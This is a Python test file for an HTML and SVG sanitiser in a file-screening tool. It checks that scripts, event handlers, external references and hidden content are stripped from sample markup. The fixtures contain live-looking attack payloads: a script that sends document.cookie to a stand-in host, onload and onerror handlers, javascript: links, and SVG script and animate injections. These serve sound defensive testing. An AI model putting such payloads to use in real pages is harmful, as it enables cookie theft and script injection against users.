"""HTML and SVG derivatives: allow-listed, no active content, no hidden or external parts."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from clearance.screening import ScreeningRules, Verdict, screen_file
from clearance.screening.sanitise.markup import sanitise_html, sanitise_svg

PAGE = b"""<!DOCTYPE html><html><head><title>Du lich</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://cdn.example/a.css"><style>body{background:url(https://t.example/x)}</style>
<script>fetch('https://t.example/?'+document.cookie)</script></head>
<body onload="steal()"><!-- ghi chu noi bo -->
<p style="color:red">Le hoi <a href="javascript:alert(1)">bien</a> <a href="tin/2024.html">tin</a></p>
<div hidden>an di</div><span style="display: none">an nua</span>
<img src="https://tracker.example/p.gif" alt="pixel"><img src="anh/bien.jpg" alt="bien" onerror="x()">
<iframe src="https://evil.example/"></iframe><p>&lt;script&gt; la van ban</p></body></html>"""


def test_html_derivative_keeps_text_and_drops_active_content(rules: ScreeningRules) -> None:
    result = screen_file(PAGE, "page.html", rules)
    assert result.verdict is Verdict.REVIEW  # scripts and handlers are looked at by a human
    assert result.sanitized is not None and result.sanitized_type == "text/html"
    clean = result.sanitized.decode()
    for gone in ("<script", "onload", "onerror", "javascript:", "ghi chu", "an di", "an nua",
                 "https:", "style", "<iframe", "<meta", "<link", "tracker"):  # fmt: skip
        assert gone not in clean, gone
    for kept in ("Le hoi", "bien", 'href="tin/2024.html"', 'src="anh/bien.jpg"', "&lt;script&gt;"):
        assert kept in clean, kept


@settings(max_examples=200, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(list("<>/=\"' abcdefghijklmnopqrstuvwxyz!-:")), max_size=200)
)
def test_html_derivative_never_holds_a_script_or_handler(fragment: str) -> None:
    clean = sanitise_html(("<p>" + fragment).encode()).decode().lower()
    assert "<script" not in clean
    # Visible text may read "javascript:" (it is escaped text, not a link); a tag may not.
    assert not re.search(r"<[^>]*javascript:", clean)
    assert not re.search(r"<[^>]*\son\w*=", clean)


SVG = b"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"
 xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="alert(1)">
<!-- ban nhap --><title>BAN THAO NOI BO</title><script>alert(2)</script>
<rect id="r" width="5" height="5" fill="url(https://t.example/g)" style="x"/>
<circle cx="5" cy="5" r="2" fill="#00f"/><use xlink:href="#r"/><use xlink:href="https://e.example/a.svg#x"/>
<image href="https://t.example/p.png"/><foreignObject><p>html</p></foreignObject>
<a xlink:href="javascript:alert(3)"><text>bam</text></a><text x="1" y="9">Du lich</text>
<animate attributeName="href" to="javascript:alert(4)"/></svg>"""


def test_svg_derivative_is_drawing_only(rules: ScreeningRules) -> None:
    result = screen_file(SVG, "logo.svg", rules)
    assert result.sanitized is not None and result.sanitized_type == "image/svg+xml"
    clean = result.sanitized.decode()
    for gone in ("onload", "<script", "alert", "https:", "ban nhap", "BAN THAO", "foreignObject",
                 "animate", "style="):  # fmt: skip
        assert gone not in clean, gone
    for kept in ("<circle", 'href="#r"', "Du lich", "viewBox"):
        assert kept in clean, kept
    assert sanitise_svg(result.sanitized) == result.sanitized  # stable
